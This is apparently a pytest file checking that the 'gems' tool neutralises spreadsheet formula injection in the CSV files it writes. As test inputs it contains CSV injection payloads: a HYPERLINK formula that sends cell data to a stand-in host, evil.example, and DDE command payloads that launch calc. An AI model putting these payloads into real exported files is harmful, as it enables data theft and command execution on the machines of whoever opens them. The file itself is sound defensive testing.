"""Spreadsheet formulas in the CSV files gems writes (issue 16): ``gems link --out links.csv`` and ``gems export
--out recs.csv`` wrote cells starting with ``=``, ``+``, ``-``, ``@`` raw, so ``=HYPERLINK(...)`` ran when the
file was opened. Every such text cell now starts with ``'`` and is quoted; numbers stay bare numbers."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest

from gems.spreadsheet import FORMULA_START, neutral_table, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def raw_cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet reads the file (quotes removed)."""
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(text: str) -> None:
    """No cell a spreadsheet would take for a formula: text starting with = + - @, a tab or CR (a number such as
    -0.5 is a number)."""
    for row in raw_cells(text)[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or is_number(cell), (cell, text)


def test_text_cells_are_prefixed_and_quoted_numbers_stay_numbers():
    table = pa.table(
        {
            "title": FORMULAS + ["-Interlude-", "plain", None],
            "score": pa.array([-0.5, 1.25, -3.0, 0.0, 2.0, -1e-3, 7.0, -2.5, 1.0, None], pa.float32()),
            "rank": pa.array(range(1, 11), pa.int32()),
        }
    )
    sink = io.BytesIO()
    write_csv(table, sink)
    text = sink.getvalue().decode()
    assert_no_formula(text)
    lines = text.split("\n")  # a quoted cell holds a CR
    assert lines[1] == """"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-0.5,1"""
    assert lines[8] == '"\'-Interlude-",-2.5,8' and lines[9] == '"plain",1,9' and lines[10] == ",,10"
    neutral = neutral_table(table).column("title").to_pylist()
    assert neutral[:7] == ["'" + f for f in FORMULAS] and neutral[8:] == ["plain", None]


def test_gems_link_neutralises_its_csv(tmp_path, gems_cli, built_model):
    scrobbles = tmp_path / "mallory.csv"
    rows = "".join(
        f'"{f.replace(chr(34), chr(34) * 2)}","OST","{f.replace(chr(34), chr(34) * 2)}","31 Jan 2021 14:0{i}"\n'
        for i, f in enumerate(FORMULAS[:4])
    )
    scrobbles.write_text(rows + '"Composer","Soundtrack 1","Track 1 of 1","31 Jan 2021 15:00"\n')
    code, out, err = gems_cli("link", "-m", built_model, "--listens", scrobbles, "--out", tmp_path / "links.csv")
    assert code == 0, err
    text = (tmp_path / "links.csv").read_text()
    assert_no_formula(text)
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text


def test_gems_export_neutralises_user_ids_and_keeps_scores_numbers(tmp_path, gems_cli, built_model):
    histories = tmp_path / "new.csv"
    users = ["=1+1", "@SUM(1)", "-2+3", "+cmd|' /C calc'!A0", "plain"]
    histories.write_text(
        "user,track,plays\n"
        + "".join(f'"{u}",g{i % 3}-t{1 + i % 4},2\n"{u}",g{i % 3}-t5,1\n' for i, u in enumerate(users))
    )
    out = tmp_path / "recs.csv"
    code, printed, err = gems_cli(
        "export", "-m", built_model, "--histories", histories, "-k", "3", "--out", out, "--no-progress"
    )
    assert code == 0, err
    text = out.read_text()
    assert_no_formula(text)
    header, *rows = raw_cells(text)
    assert {r[header.index("user_id")] for r in rows} == {"'=1+1", "'@SUM(1)", "'-2+3", "'+cmd|' /C calc'!A0", "plain"}
    for line, row in zip(text.split("\n")[1:], rows):  # the numbers are bare: never quoted, never prefixed
        score, popularity = row[header.index("score")], row[header.index("popularity")]
        assert line.endswith(f",{score},{popularity}") and is_number(score) and is_number(popularity), line


@pytest.mark.parametrize("suffix", [".parquet", ".jsonl"])
def test_other_formats_keep_the_data_as_it_is(tmp_path, gems_cli, built_model, suffix):
    histories = tmp_path / "new.csv"
    histories.write_text('user,track,plays\n"=1+1",g0-t1,2\n"=1+1",g0-t2,1\n')
    out = tmp_path / f"recs{suffix}"
    code, _, err = gems_cli(
        "export", "-m", built_model, "--histories", histories, "-k", "2", "--out", out, "--no-progress"
    )
    assert code == 0, err
    import pandas as pd

    frame = pd.read_parquet(out) if suffix == ".parquet" else pd.read_json(out, lines=True)
    assert set(frame["user_id"]) == {"=1+1"}
